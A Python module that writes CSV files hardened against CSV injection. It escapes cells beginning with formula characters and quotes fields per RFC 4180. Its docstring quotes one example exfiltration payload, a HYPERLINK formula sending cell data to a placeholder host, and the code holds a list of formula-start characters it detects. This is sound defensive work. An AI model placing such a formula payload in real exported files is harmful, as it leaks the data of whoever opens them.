"""Every CSV file hsx writes is safe to open in a spreadsheet. A text cell that begins with `=`, `+`, `-`, `@`, a tab
or a carriage return is a formula to Excel, LibreOffice and Google Sheets (CSV injection: a prompt category
`=HYPERLINK("http://host/?leak="&A1,"click")` would run when the file is opened), so such a cell is written with a
leading `'` (OWASP's rule); the spreadsheet shows the text as it was. Numbers stay numbers: -0.5 is written -0.5.

    safe_cell(value) -> value                 the rule, for one cell (None -> "")
    csv_bytes(header, rows) -> bytes          a whole file: UTF-8, "\\n" line ends, every cell through safe_cell,
                                              quoted as RFC 4180 says (a cell holding a CR too: it never splits a row)

The one place the rule lives: every CSV writer (training/acceptance.py's acceptance.csv and summary.csv) goes
through csv_bytes.
"""

from __future__ import annotations

import numbers
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads as the start of a formula (OWASP, CSV Injection)."""


def safe_cell(value: object) -> object:
    """`value` as a CSV cell that no spreadsheet runs: a string starting with FORMULA_STARTS gets a leading "'";
    numbers (bool, int, float, numpy scalars) are kept as they are; None is the empty cell."""
    if value is None:
        return ""
    if isinstance(value, numbers.Number):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _field(cell: object) -> str:
    """One cell as CSV text (RFC 4180): quoted when it holds a comma, a quote, a line feed or a carriage return.
    (Python's csv module leaves a lone CR unquoted when lines end in LF: a reader then splits the row there, and the
    text after the CR starts a row of its own, formula checks bypassed.)"""
    text = str(cell)
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text


def csv_bytes(header: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    """A CSV file of `header` and `rows`, every cell through safe_cell."""
    lines = []
    for row in (header, *rows):
        cells = [_field(safe_cell(v)) for v in row]
        lines.append(",".join(cells) if cells != [""] else '""')  # a lone empty cell is not an empty line
    return "".join(line + "\n" for line in lines).encode("utf-8")
